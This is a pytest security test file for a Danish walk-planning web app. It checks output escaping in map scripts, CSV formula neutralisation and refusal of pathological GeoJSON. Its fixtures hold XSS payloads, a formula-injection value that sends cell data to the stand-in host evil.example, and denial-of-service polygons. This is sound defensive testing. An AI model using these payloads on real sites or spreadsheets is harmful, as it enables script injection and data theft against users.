"""Issue 12 on the planner pages: user text in the maps' tooltips stays text (points 4 and 5),
CSV cells never start a formula (point 12), and oversized or broken geometry is refused with a
4xx before anything is written (point 13). The browser half of 4 and 5 is
tests/e2e/test_planner_xss.py."""

import csv
import io
import json
import math
import re
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from shapely.geometry import MultiPolygon, Polygon

from tests.conftest import AuthActions
from tests.factories import HYLDE, make_area, make_user, make_walk

FOCUS_NAME = '<img src=x onerror="window.__xss=1">Fokus'
AREA_NAME = '${window.__xss=2}<img src=x onerror="window.__xss=3">Område'
REMEDY_TITLE = '</script><script>window.__xss=4</script>`${window.__xss=5}`'
ORG_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'

SQUARE = {"type": "Polygon", "coordinates": [[[12.357, 55.653], [12.362, 55.653],
                                              [12.362, 55.656], [12.357, 55.656],
                                              [12.357, 55.653]]]}


def star(n: int, radius: float = 0.004) -> dict:
    """A closed ring of *n* vertices, each joined to the one almost opposite: it crosses itself
    about n * n / 4 times, the input that made make_valid run for minutes."""
    k = n // 2 - 1
    while math.gcd(n, k) != 1:
        k -= 1
    pts = [[12.36 + radius * math.cos(2 * math.pi * i * k / n),
            55.655 + radius * math.sin(2 * math.pi * i * k / n)] for i in range(n)]
    return {"type": "Polygon", "coordinates": [pts + [pts[0]]]}


@pytest.fixture
def hostile(session):
    """A planner, a housing area, a focus area and a remedy whose names are scripts."""
    from walkapp.geo.shapes import to_db
    from walkapp.models import FocusArea, Remedy
    from walkapp.services import accounts

    planner = make_user(session, "planlaegger")
    area = make_area(session, AREA_NAME, HYLDE)
    walk = make_walk(session, area=area)
    org = accounts.get_or_create_organisation(session, ORG_NAME, "boligselskab")
    session.add(FocusArea(name=FOCUS_NAME, notes="", created_by_id=planner.id,
                          geom=to_db(MultiPolygon([Polygon(SQUARE["coordinates"][0])]))))
    session.add(Remedy(walk_id=walk.id, area_id=area.id, title=REMEDY_TITLE, status="tildelt",
                       owner_org_id=org.id, lat=55.6545, lon=12.36,
                       created_at=datetime(2024, 11, 20, tzinfo=UTC)))
    session.commit()
    return planner


def _scripts(html: str) -> str:
    return "\n".join(re.findall(r"<script[^>]*>(.*?)</script>", html, re.S))


@pytest.mark.parametrize("url", ["/planner/?sync=1", "/planner/", "/planner/focus"])
def test_names_reach_the_map_scripts_only_as_escaped_text(client, hostile, url):
    AuthActions(client).login(hostile)
    html = client.get(url).get_data(as_text=True)
    assert "<script>window.__xss=4" not in html  # no break-out of the map's <script>
    scripts = _scripts(html)
    assert "${window.__xss" not in scripts  # nothing a JS template literal would run
    assert "<img" not in scripts and "\\u003cimg" not in scripts  # nothing innerHTML would parse
    assert "lt;img src=x onerror=" in scripts  # the focus area's name, as escaped text
    if url != "/planner/focus":
        assert "lt;/script&gt;" in scripts  # the remedy's title, as escaped text
    assert "&lt;img src=x onerror=" in html  # the page's own lists show the names as text


def test_statistics_csv_cells_never_start_a_formula(client, hostile):
    AuthActions(client).login(hostile)
    text = client.get("/planner/statistics/remedies.csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not re.fullmatch(r"-|[+-]?\d+(\.\d+)?", c)]
    assert "'" + ORG_NAME in cells  # the organisation's name, neutralised but kept


def _focus_count(session) -> int:
    from walkapp.models import FocusArea

    session.expire_all()
    return session.scalar(sa.select(sa.func.count()).select_from(FocusArea))


def _post_focus(client, token, geometry: str, lang: str = "da"):
    return client.post(f"/planner/focus?lang={lang}", data={
        "name": "Stort", "geometry": geometry, "csrf_token": token})


def test_a_huge_self_overlapping_polygon_is_refused_before_anything_is_saved(client, session):
    planner = make_user(session, "planlaegger")
    session.commit()
    token = AuthActions(client).login(planner)
    resp = _post_focus(client, token, json.dumps(star(50_000)))
    assert resp.status_code == 422
    assert "punkter" in resp.get_data(as_text=True)  # said in Danish
    english = _post_focus(client, token, json.dumps(star(50_000)), lang="en")
    assert english.status_code == 422 and "points" in english.get_data(as_text=True)
    assert _focus_count(session) == 0


def test_a_polygon_crossing_itself_too_often_is_refused_and_a_small_crossing_repaired(
        client, session):
    planner = make_user(session, "planlaegger")
    session.commit()
    token = AuthActions(client).login(planner)
    resp = _post_focus(client, token, json.dumps(star(2_001)), lang="en")
    assert resp.status_code == 422 and "crosses itself" in resp.get_data(as_text=True)
    assert _focus_count(session) == 0
    bowtie = {"type": "Polygon", "coordinates": [[[12.357, 55.653], [12.362, 55.656],
                                                  [12.362, 55.653], [12.357, 55.656],
                                                  [12.357, 55.653]]]}
    assert _post_focus(client, token, json.dumps(bowtie)).status_code == 302
    assert _focus_count(session) == 1


UNUSABLE = [
    "[" * 100_000 + "]" * 100_000,
    '{"type": "GeometryCollection", "geometries": [' * 200 + "]}" * 200,
    '{"type": "Polygon", "coordinates": [[[NaN, 55.65], [12.36, 55.65], [12.36, 55.66], '
    '[NaN, 55.65]]]}',
    '{"type": "Polygon", "coordinates": [[[12.35, 55.65], [Infinity, 55.65], [12.36, 55.66], '
    '[12.35, 55.65]]]}',
    '{"type": "Polygon", "coordinates": [[[12.35, 55.65], [1e400, 55.65], [12.36, 55.66], '
    '[12.35, 55.65]]]}',
    '{"type": "Polygon", "coordinates": [[[12.35, 55.65], [' + "9" * 5000 + ', 55.65], '
    '[12.36, 55.66], [12.35, 55.65]]]}',
    '{"type": "Polygon", "coordinates": {"a": 1}}',
    '{"type": "FeatureCollection", "features": {"a": 1}}',
    '{"type": "Polygon", "coordinates": []}',
]


@pytest.mark.parametrize("geometry", UNUSABLE)
def test_broken_geometry_gives_a_4xx_not_a_500(client, session, geometry):
    planner = make_user(session, "planlaegger")
    session.commit()
    token = AuthActions(client).login(planner)
    resp = _post_focus(client, token, geometry)
    assert resp.status_code == 422
    assert _focus_count(session) == 0


def test_a_feature_collection_of_a_self_crossing_outline_is_repaired(client, session):
    planner = make_user(session, "planlaegger")
    session.commit()
    token = AuthActions(client).login(planner)
    fc = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {}, "geometry": star(9)},
        {"type": "Feature", "properties": {}, "geometry": SQUARE}]}
    assert _post_focus(client, token, json.dumps(fc)).status_code == 302
    assert _focus_count(session) == 1


def test_an_admins_huge_area_outline_is_refused_too(client, session):
    admin = make_user(session, "admin")
    session.commit()
    token = AuthActions(client).login(admin)
    resp = client.post("/admin/areas/new?lang=en", data={
        "name": "Stort", "kind": "boligomraade", "owner_organisation_id": "",
        "geometry": json.dumps(star(50_000)), "csrf_token": token})
    assert resp.status_code == 422 and "points" in resp.get_data(as_text=True)
    from walkapp.models import Area

    assert session.scalar(sa.select(Area).where(Area.name == "Stort")) is None
